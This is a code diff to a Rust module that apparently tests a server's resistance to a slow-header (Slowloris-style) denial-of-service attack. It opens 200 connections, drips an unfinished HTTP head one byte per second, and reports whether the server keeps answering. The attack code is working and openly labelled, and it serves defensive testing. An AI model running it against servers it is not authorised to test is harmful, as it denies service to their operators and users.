@@ -12,12 +12,12 @@ use crate::target::Target;
 const CONNECTIONS: usize = 200;
 
 /// Time in which another client must get its response.
-const PATIENCE: Duration = Duration::from_secs(2);
+const PATIENCE: Duration = Duration::from_secs(5);
 
 /// Time after which a server should have dropped a head that is not complete.
-const MAX_HEAD_TIME: Duration = Duration::from_secs(14);
+const MAX_HEAD_TIME: Duration = Duration::from_secs(20);
 
-/// Interval at which each connection sends one more byte.
+/// Interval at which each connection sends one more byte of its head.
 const INTERVAL: Duration = Duration::from_secs(1);
 
 pub(super) fn make(target: &Target) -> io::Result<Outcome> {
@@ -26,39 +26,37 @@ pub(super) fn make(target: &Target) -> io::Result<Outcome> {
     println!("  GET /hello -> {}", in_millis(took));
     let head = format!("GET /hello HTTP/1.1\r\nHost: {}\r\nX-Slow: ", target.authority);
     println!(
-        "\nThe attack: {CONNECTIONS} connections, each with a head that does not end:"
+        "\nThe attack: {CONNECTIONS} connections. Each sends one byte of this a second:"
     );
-    println!("  {}", head.escape_default());
+    println!("  {}\n", head.escape_default());
     let mut slow = Vec::new();
     for _ in 0..CONNECTIONS {
         // A server that accepts no more is what the attack wants.
-        let Ok(mut stream) = TcpStream::connect_timeout(&target.address, PATIENCE) else {
+        let Ok(stream) = TcpStream::connect_timeout(&target.address, PATIENCE) else {
             break;
         };
         stream.set_nonblocking(true)?;
-        let _ = stream.write_all(head.as_bytes());
         slow.push(stream);
     }
-    println!("Once a second, each of the {} sends one more byte.\n", slow.len());
-    watch(target, slow)
+    Ok(watch(target, slow, head.as_bytes()))
 }
 
 /// Sends on, with a client that asks for a page each second, until the server has dropped all
 /// connections or the time is over.
-fn watch(target: &Target, mut slow: Vec<TcpStream>) -> io::Result<Outcome> {
+fn watch(target: &Target, mut slow: Vec<TcpStream>, head: &[u8]) -> Outcome {
     let (began, opened) = (Instant::now(), slow.len());
     let mut slowest = Duration::ZERO;
-    while began.elapsed() < MAX_HEAD_TIME {
+    for byte in head.iter().cycle().take_while(|_| began.elapsed() < MAX_HEAD_TIME) {
         match polite(target) {
             Ok(took) => slowest = slowest.max(took),
             Err(error) => {
                 println!(
                     "The client asks for its page again, and gets no response: {error}"
                 );
-                return Ok(Outcome::Broken);
+                return Outcome::Broken;
             }
         }
-        slow.retain_mut(is_open);
+        slow.retain_mut(|stream| sends(stream, *byte));
         if slow.is_empty() {
             println!(
                 "Each second, the client got its page, in {} at most.",
@@ -68,7 +66,7 @@ fn watch(target: &Target, mut slow: Vec<TcpStream>) -> io::Result<Outcome> {
                 "The server has dropped all {opened} after {:.0} s.",
                 began.elapsed().as_secs_f64()
             );
-            return Ok(Outcome::Held);
+            return Outcome::Held;
         }
         std::thread::sleep(INTERVAL);
     }
@@ -78,11 +76,11 @@ fn watch(target: &Target, mut slow: Vec<TcpStream>) -> io::Result<Outcome> {
         slow.len()
     );
     println!("the server waits for as long as the attacker likes.");
-    Ok(Outcome::Broken)
+    Outcome::Broken
 }
 
 /// Sends one more byte. Returns `false` if the server has closed the connection.
-fn is_open(stream: &mut TcpStream) -> bool {
+fn sends(stream: &mut TcpStream, byte: u8) -> bool {
     let mut buffer = [0; 1024];
     loop {
         match stream.read(&mut buffer) {
@@ -93,7 +91,7 @@ fn is_open(stream: &mut TcpStream) -> bool {
             Err(_) => return false,
         }
     }
-    stream.write_all(b"a").is_ok()
+    stream.write_all(&[byte]).is_ok()
 }
 
 /// Asks for a page on a new connection, and returns the time until the response begins.
@@ -105,7 +103,7 @@ fn polite(target: &Target) -> io::Result<Duration> {
     let request =
         format!("GET /hello HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
     stream.write_all(request.as_bytes())?;
-    let mut buffer = [0; 64 * 1024];
+    let mut buffer = [0; 16 * 1024];
     match stream.read(&mut buffer) {
         Ok(0) => Err(io::Error::from(ErrorKind::UnexpectedEof)),
         Ok(_) => Ok(began.elapsed()),
